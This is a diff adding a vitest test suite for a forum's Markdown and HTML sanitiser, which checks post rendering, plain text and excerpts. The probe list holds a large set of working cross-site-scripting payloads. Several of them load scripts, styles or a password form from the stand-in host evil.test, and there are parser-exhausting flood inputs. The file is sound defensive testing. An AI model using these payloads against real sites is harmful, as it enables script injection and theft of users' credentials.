@@ -1,0 +1,315 @@
+import { COMMENT_MAX, POST_MAX } from '@lotwise/domain/limits';
+import { describe, expect, test } from 'vitest';
+import { excerptOf, plainText, renderComment, renderPost } from './render.ts';
+
+const TAGS = 'a b strong i em s del ins code kbd sub sup br p h3 h4 h5 h6 ul ol li blockquote pre hr table thead tbody tr th td img dl dt dd div'.split(' ');
+const ATTRIBUTES: Record<string, string[]> = {
+  a: ['href', 'title', 'rel'],
+  img: ['src', 'alt', 'title', 'width', 'height', 'loading'],
+  ol: ['start'],
+  th: ['align'],
+  td: ['align'],
+  div: ['class', 'tabindex', 'role', 'aria-label'],
+};
+const VOID = new Set(['br', 'hr', 'img']);
+const A_TAG = /^<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)(?: \/)?>$/;
+
+interface Element {
+  tag: string;
+  attributes: Record<string, string>;
+}
+
+/** The elements of HTML in the one strict form that the renderer writes. Throws at anything a browser might read otherwise. */
+function elementsOf(html: string): Element[] {
+  const open: string[] = [];
+  const found: Element[] = [];
+  for (const [piece] of html.matchAll(/<[^>]*>?|[^<]+/g)) {
+    if (!piece.startsWith('<')) {
+      if (piece.includes('>')) throw new Error(`A stray > in ${piece.slice(0, 80)}`);
+      continue;
+    }
+    const [, slash, tag = '', list = ''] = A_TAG.exec(piece) ?? [];
+    if (tag === '') throw new Error(`No clean tag: ${piece.slice(0, 200)}`);
+    if (slash) {
+      if (open.pop() !== tag) throw new Error(`</${tag}> closes what is not open`);
+      continue;
+    }
+    if (!VOID.has(tag)) open.push(tag);
+    found.push({ tag, attributes: Object.fromEntries([...list.matchAll(/ ([a-z-]+)="([^"]*)"/g)].map(([, name = '', value = '']) => [name, decode(value)])) });
+  }
+  if (open.length > 0) throw new Error(`Left open: ${open.slice(0, 5).join(', ')}`);
+  return found;
+}
+
+const decode = (text: string) => text.replace(/&(amp|lt|gt|quot);/g, (_, name: string) => ({ amp: '&', lt: '<', gt: '>', quot: '"' })[name] ?? '');
+
+/** Asserts that HTML holds nothing but what a post may hold. */
+function expectSafe(html: string): void {
+  for (const { tag, attributes } of elementsOf(html)) {
+    expect(TAGS).toContain(tag);
+    for (const name of Object.keys(attributes)) expect(ATTRIBUTES[tag] ?? [], `${tag} ${name}`).toContain(name);
+    // As a browser reads it: without tabs and line ends, and entities again.
+    if (attributes['href'] !== undefined) expect(['http:', 'https:', 'mailto:']).toContain(new URL(attributes['href'], 'https://site.test').protocol);
+    if (attributes['src'] !== undefined) expect(new URL(attributes['src'], 'https://site.test').protocol).toBe('https:');
+    if (tag === 'a') expect(attributes['rel']).toBe('nofollow ugc noopener');
+  }
+}
+
+const PROBES = [
+  '<script>alert(1)</script>',
+  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://ok.test/a.png" onload="alert(1)" style="position:fixed">',
+  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
+  '<body onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="JaVaScRiPt:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="java\tscript:alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
+  '<a href="&#x6A;avascript:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="//evil.test/phish">x</a>',
+  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<img src="http://tracker.test/pixel.gif">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math href="javascript:alert(1)">x</math>',
+  '<style>@import "//evil.test/x.css"; body{background:url(javascript:alert(1))}</style>',
+  '<p style="background:url(javascript:alert(1))">x</p>',
+  '<iframe src="https://evil.test"></iframe><iframe srcdoc="<script>alert(1)</script>">',
+  '<object data="evil.swf"></object><embed src="evil.swf"><applet code=x>',
+  '<base href="https://evil.test/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
+  '<link rel="stylesheet" href="https://evil.test/x.css">',
+  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
+  '<textarea><script>alert(1)</script></textarea><title><img src=x onerror=alert(1)></title>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<template><script>alert(1)</script></template>',
+  '<!--><img src=x onerror=alert(1)>--><!-- x --!><script>alert(1)</script>',
+  '<![CDATA[<script>alert(1)</script>]]><?php echo 1 ?><!doctype html>',
+  '<a title="&quot; onmouseover=&quot;alert(1)" href="https://ok.test">x</a>',
+  `<a href='https://ok.test/" onmouseover="alert(1)'>x</a>`,
+  '<img alt="`><script>alert(1)</script>" src="https://ok.test/a.png">',
+  '<table background="javascript:alert(1)"><td background="x" style="text-align:expression(alert(1))">x</table>',
+  '<td align="left" style="text-align:center;x:expression(1)">x</td>',
+  '<div class="table-box" id="root" tabindex="0">x</div>',
+  '<p id="state" class="btn" name="cookie">clobber</p>',
+  '</div></main></body><script>alert(1)</script>',
+  '<p><b><i>unclosed <a href="https://ok.test"',
+  '<<<>>><p <p <p "><">',
+  '<img src="https://ok.test/a.png" width="1 onerror=alert(1)">',
+  '<a href="https://ok.test"><a href="javascript:alert(1)">nested</a></a>',
+  '[x](javascript:alert(1))',
+  '[x](JAVASCRIPT&colon;alert(1))',
+  '[x](java&#x09;script:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x]( &#1;javascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](https://ok.test "title&quot; onclick=&quot;alert(1)")',
+  '[x](https://ok.test" onclick="alert(1))',
+  '[x][1]\n\n[1]: javascript:alert(1)',
+  '<javascript:alert(1)>',
+  '<https://ok.test/"onclick="alert(1)>',
+  '![x](javascript:alert(1))',
+  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
+  '![x" onerror="alert(1)](https://ok.test/a.png)',
+  '![x](https://ok.test/a.png" onerror="alert(1))',
+  '```html"><script>alert(1)</script>\nx\n```',
+  '`<script>alert(1)</script>`',
+  '# <img src=x onerror=alert(1)>',
+  '| <script> | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
+  'https://ok.test/<script>alert(1)</script>',
+  'javascript://ok.test/%0aalert(1)',
+  'x\u2028<script>alert(1)</script>\ufeff\u202e',
+];
+
+describe('an attack', () => {
+  test.each(PROBES.map((probe) => [probe]))('by %s comes out safe, as Markdown, as HTML and in a comment', (probe) => {
+    for (const format of ['markdown', 'html'] as const) {
+      for (const source of [probe, `> - ${probe}`, `text ${probe} text`]) {
+        expectSafe(renderPost(source, format));
+        expectSafe(renderComment(source, format));
+      }
+    }
+  });
+
+  test('by two halves that the sanitiser joins comes out safe', () => {
+    for (const probe of PROBES) {
+      const once = renderPost(probe, 'html');
+      expectSafe(renderPost(once, 'html'));
+      expectSafe(renderPost(probe.slice(0, probe.length / 2), 'html') + renderPost(probe.slice(probe.length / 2), 'html'));
+    }
+  });
+
+  test('in Markdown shows its HTML as text', () => {
+    expect(renderPost('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
+  });
+
+  test('in HTML loses the script with its text', () => {
+    expect(renderPost('<p>before<script>alert(1)</script><style>p{}</style> after</p>', 'html')).toBe('<p>before after</p>');
+  });
+});
+
+describe('a megabyte', () => {
+  const floods: [string, string][] = [
+    ['lists nested by indentation', Array.from({ length: 1400 }, (_, depth) => `${' '.repeat(depth * 2)}- item`).join('\n')],
+    ['lists nested in one line', '- '.repeat(500_000)],
+    ['short lines of nested lists', `${'- '.repeat(500)}x\n`.repeat(1000)],
+    ['numbered lists in one line', '1. '.repeat(333_333)],
+    ['quotes', '>'.repeat(1_000_000)],
+    ['quotes with spaces', `${'> '.repeat(500)}x\n`.repeat(1000)],
+    ['opening brackets', '['.repeat(1_000_000)],
+    ['images', '!['.repeat(500_000)],
+    ['links that do not close', '[a]('.repeat(250_000)],
+    ['brackets in brackets', `${'['.repeat(500_000)}${']'.repeat(500_000)}`],
+    ['stars', '*'.repeat(1_000_000)],
+    ['stars and letters', '*a'.repeat(500_000)],
+    ['stars before and after', `${'*a '.repeat(160_000)}${'b* '.repeat(160_000)}`],
+    ['underscores and stars', '_*'.repeat(500_000)],
+    ['backticks', Array.from({ length: 1400 }, (_, length) => `${'`'.repeat(length)} `).join('')],
+    ['tildes', '~~a'.repeat(333_333)],
+    ['table columns', `${'|a'.repeat(5000)}|\n${'|-'.repeat(5000)}|\n${'|b\n'.repeat(300_000)}`],
+    ['entities', '&amp;'.repeat(200_000)],
+    ['unfinished entities', '&#'.repeat(500_000)],
+    ['autolinks', '<a@b.c'.repeat(160_000)],
+    ['addresses', 'http://a.b '.repeat(90_000)],
+    ['one long address', `https://a.test/${'a/'.repeat(500_000)}`],
+    ['mail addresses', 'a@'.repeat(500_000)],
+    ['dots', 'a.'.repeat(500_000)],
+    ['colons', ':/'.repeat(500_000)],
+    ['references', '[a]: b\n'.repeat(140_000)],
+    ['backslashes', '\\'.repeat(1_000_000)],
+    ['empty lines', '\n'.repeat(1_000_000)],
+    ['headings', '#'.repeat(1_000_000)],
+    ['fences', '```\n'.repeat(250_000)],
+  ];
+
+  // The lists that a post might nest, and the floods that cost a parser most.
+  const inFull = /nested|numbered|quotes|brackets$|images|^stars$|before and after/;
+
+  test.each(floods.filter(([name]) => inFull.test(name)))('of %s renders safely within 2 seconds', (_name, source) => {
+    expectQuick(() => renderPost(source), 2000);
+  });
+
+  test.each(floods)('of %s, cut to the longest post there may be, renders safely within a second', (_name, source) => {
+    expectQuick(() => renderPost(source.slice(0, POST_MAX)), 1000);
+    expectQuick(() => renderComment(source.slice(0, COMMENT_MAX)), 1000);
+  });
+
+  const htmlFloods: [string, string][] = [
+    ['open lists', '<ul><li>'.repeat(125_000)],
+    ['lists nested and closed', `${'<ul><li>'.repeat(50_000)}x${'</li></ul>'.repeat(50_000)}`],
+    ['open links', '<a href="https://a.test">'.repeat(40_000)],
+    ['broken tags', '<p <'.repeat(250_000)],
+    ['open comments', '<!--'.repeat(250_000)],
+    ['opening brackets', '<'.repeat(1_000_000)],
+    ['attributes', `<p ${'a=b '.repeat(250_000)}>`],
+  ];
+
+  test.each(htmlFloods)('of HTML, %s, renders safely within 2 seconds', (_name, source) => {
+    expectQuick(() => renderPost(source, 'html'), 2000);
+  });
+
+  /** The processor's time, not the clock's: other tests run beside this one. */
+  function expectQuick(render: () => string, maxMs: number): void {
+    const startedAt = process.cpuUsage();
+    const html = render();
+    const { user, system } = process.cpuUsage(startedAt);
+    expectSafe(html);
+    expect((user + system) / 1000).toBeLessThan(maxMs);
+  }
+});
+
+describe('text', () => {
+  test.each(['كيف تُفرض الضريبة على العملات المشفرة؟', '加密货币如何征税？', 'מיסוי קריפטו', '👩‍👩‍👧‍👦 🏳️‍🌈 🇩🇪 e\u0301', 'ы'.repeat(300), 'x'.repeat(300), '𝕏𝔸 𠜎𠜱'])(
+    '%.30s survives unchanged',
+    (text) => {
+      expect(renderPost(text)).toBe(`<p>${text}</p>`);
+      expect(renderPost(`<p>${text}</p>`, 'html')).toBe(`<p>${text}</p>`);
+      expect(plainText(renderPost(text))).toBe(text);
+    },
+  );
+
+  test('with signs of HTML keeps them as signs', () => {
+    expect(renderPost('if a < b && c > d, "x" & \'y\'')).toBe('<p>if a &lt; b &amp;&amp; c &gt; d, "x" &amp; \'y\'</p>');
+  });
+});
+
+describe('a post', () => {
+  test.each([
+    ['# One\n## Two\n##### Five', '<h3>One</h3>\n<h4>Two</h4>\n<h6>Five</h6>'],
+    ['**bold** *it* ~~gone~~ `a<b`', '<p><strong>bold</strong> <em>it</em> <s>gone</s> <code>a&lt;b</code></p>'],
+    ['- a\n- b\n\n3. c', '<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start="3">\n<li>c</li>\n</ol>'],
+    ['```js\nlet a = "<b>";\n```', '<pre><code>let a = "&lt;b&gt;";\n</code></pre>'],
+    ['> quoted', '<blockquote>\n<p>quoted</p>\n</blockquote>'],
+    ['see https://irs.gov', '<p>see <a href="https://irs.gov" rel="nofollow ugc noopener">https://irs.gov</a></p>'],
+    ['[IRS](https://irs.gov "Home")', '<p><a href="https://irs.gov" title="Home" rel="nofollow ugc noopener">IRS</a></p>'],
+    ['![chart](https://ok.test/a.png)', '<p><img src="https://ok.test/a.png" alt="chart" loading="lazy" /></p>'],
+    ['', ''],
+  ])('of %j is %j', (source, html) => {
+    expect(renderPost(source)).toBe(html);
+    expectSafe(html);
+  });
+
+  test('shows a table in a box that scrolls and takes the focus, its columns aligned without a style', () => {
+    const html = renderPost('| lot | gain |\n|:--|--:|\n| 1 | 20 |');
+    expectSafe(html);
+    expect(html).toMatch(/^<div class="table-box" tabindex="0" role="region" aria-label="Table"><table>/);
+    expect(html).toContain('<th align="left">lot</th>');
+    expect(html).toContain('<td align="right">20</td>');
+    expect(html.endsWith('</table></div>')).toBe(true);
+  });
+
+  test('lowers the headings of HTML too', () => {
+    expect(renderPost('<h1>a</h1><h2>b</h2><h6>c</h6>', 'html')).toBe('<h3>a</h3><h4>b</h4><h6>c</h6>');
+  });
+});
+
+describe('plain text', () => {
+  test.each([
+    ['<p>a</p><p>b</p>', 'a b'],
+    ['<ul>\n<li>a</li>\n<li>b</li>\n</ul>', 'a b'],
+    ['a<br />b', 'a b'],
+    ['<table><tr><td>1</td><td>2</td></tr></table>', '1 2'],
+    ['a &lt;b&gt; &amp;amp; &quot;c&quot;', 'a <b> &amp; "c"'],
+    ['x<strong>y</strong>z', 'xyz'],
+    ['<blockquote>a</blockquote><p>b</p>', 'a b'],
+    ['<h3>a</h3>b', 'a b'],
+    ['a<hr />b', 'a b'],
+    ['<dl><dt>a</dt><dd>b</dd></dl>', 'a b'],
+    ['  \n a \n\n b\u00a0c ', 'a b c'],
+    ['<img src="x" alt="" />', ''],
+    ['', ''],
+  ])('of %j is %j', (html, text) => {
+    expect(plainText(html)).toBe(text);
+  });
+});
+
+describe('an excerpt', () => {
+  test.each([
+    ['short', 10, 'short'],
+    ['exactly 10', 10, 'exactly 10'],
+    [`${'word '.repeat(20)}`, 50, 'word word word word word word word word word…'],
+    ['x'.repeat(60), 50, `${'x'.repeat(49)}…`],
+    [`${'x'.repeat(48)}👩 more`, 50, `${'x'.repeat(48)}…`],
+    [`a ${'x'.repeat(60)}`, 50, `a ${'x'.repeat(47)}…`],
+    ['', 10, ''],
+  ])('of %j in %i is %j', (text, max, excerpt) => {
+    expect(excerptOf(text, max)).toBe(excerpt);
+  });
+
+  test('is never longer than asked for and never half a character', () => {
+    const text = 'ab 👩‍🚀 税 '.repeat(100);
+    for (let max = 2; max < 200; max++) {
+      const excerpt = excerptOf(text, max);
+      expect([excerpt.length <= max, excerpt.isWellFormed()]).toEqual([true, true]);
+    }
+  });
+});
